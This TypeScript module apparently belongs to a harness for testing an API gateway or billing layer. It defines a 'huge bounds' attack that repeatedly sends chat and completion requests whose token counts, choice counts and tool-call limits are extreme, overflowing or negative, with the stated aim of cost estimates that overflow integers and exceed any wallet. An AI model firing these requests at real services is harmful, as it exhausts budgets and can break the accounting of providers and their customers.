/** Requests whose most possible cost is beyond any wallet, and beyond what a database's integer holds. */
import { nth, repeat, type Attack } from "./attack.ts";
import { callApi } from "./send.ts";

const everyMs = 250;
const atOnce = 8;
const prompts = 10_461;
const choices = 128;
const outputTokens = 10_000_000;

const chat = (members: object) => ({
  path: "/chat/completions",
  body: { model: "gpt-4o-mini", messages: [{ role: "user", content: "script=none" }], ...members },
});

const requests: { path: string; body: object }[] = [
  {
    path: "/completions",
    body: {
      model: "gpt-3.5-turbo-instruct",
      prompt: Array<string>(prompts).fill(""),
      n: choices,
      best_of: choices,
      max_tokens: outputTokens,
    },
  },
  {
    path: "/completions",
    body: { model: "davinci-002", prompt: Array<number>(prompts).fill(1), n: choices, max_tokens: outputTokens },
  },
  chat({ max_completion_tokens: Number.MAX_SAFE_INTEGER, n: choices }),
  chat({ max_completion_tokens: 1e308 }),
  chat({ max_tokens: 2 ** 53, n: 2 ** 31 }),
  chat({ n: 1e18, max_tokens: 1e18 }),
  chat({ max_tokens: -1, n: -1 }),
  {
    path: "/responses",
    body: {
      model: "gpt-4.1",
      input: "script=none",
      max_output_tokens: 9e15,
      max_tool_calls: 9e15,
      tools: [{ type: "web_search" }],
    },
  },
];

export const hugeBounds: Attack = {
  name: "huge bounds",
  run: ({ api }, { apiKey }, round) =>
    repeat(round, { everyMs, atOnce }, (turn) => {
      const { path, body } = nth(requests, turn);
      return callApi(api, path, apiKey, { body, from: turn, signal: round.signal });
    }),
};
